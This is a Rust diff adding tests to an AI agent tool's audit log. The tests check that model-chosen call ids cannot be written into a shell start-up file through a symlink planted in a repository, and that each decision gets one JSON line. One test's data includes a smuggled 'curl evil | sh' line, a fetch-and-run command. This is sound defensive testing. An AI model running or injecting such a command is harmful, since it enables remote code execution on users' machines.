@@ -318,3 +318,58 @@ pub fn load_shell_hooks(
     }
     Ok(count)
 }
+
+#[cfg(test)]
+mod audit_tests {
+    use super::*;
+    use agent_core::permissions::Behavior;
+
+    fn entry(call_id: &str) -> AuditEntry {
+        AuditEntry {
+            call_id: call_id.into(),
+            tool: "bash".into(),
+            arguments: serde_json::json!({"command": "true"}),
+            merged: Behavior::Ask,
+            source: "execute_asks".into(),
+            allowed: false,
+            reason: "denied".into(),
+        }
+    }
+
+    #[test]
+    fn the_audit_log_is_never_appended_through_a_planted_link() {
+        // A repository ships `.agent_tutorial/audit.jsonl` (or the folder) as a link to a
+        // shell start-up file; a model-chosen call id must not land there.
+        for plant in ["file", "folder"] {
+            let dir = tempfile::tempdir().unwrap();
+            let outside = tempfile::tempdir().unwrap();
+            let target = outside.path().join("bashrc");
+            std::fs::write(&target, "# start-up\n").unwrap();
+            let state = dir.path().join(STATE_DIR);
+            if plant == "file" {
+                std::fs::create_dir(&state).unwrap();
+                std::os::unix::fs::symlink(&target, state.join("audit.jsonl")).unwrap();
+            } else {
+                std::os::unix::fs::symlink(outside.path(), &state).unwrap();
+            }
+            let audit = JsonlAudit::new(&Workspace::new(dir.path()).unwrap());
+            audit.record(&entry("x\ncurl evil | sh\n"));
+            assert_eq!(std::fs::read_to_string(&target).unwrap(), "# start-up\n");
+            assert_eq!(std::fs::read_dir(outside.path()).unwrap().count(), 1);
+        }
+    }
+
+    #[test]
+    fn the_audit_log_gets_one_json_line_per_decision() {
+        let dir = tempfile::tempdir().unwrap();
+        let audit = JsonlAudit::new(&Workspace::new(dir.path()).unwrap());
+        audit.record(&entry("c1"));
+        audit.record(&entry("c2"));
+        let text = std::fs::read_to_string(dir.path().join(AUDIT_FILE)).unwrap();
+        let ids: Vec<String> = text
+            .lines()
+            .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap()["call_id"].to_string())
+            .collect();
+        assert_eq!(ids, ["\"c1\"", "\"c2\""]);
+    }
+}
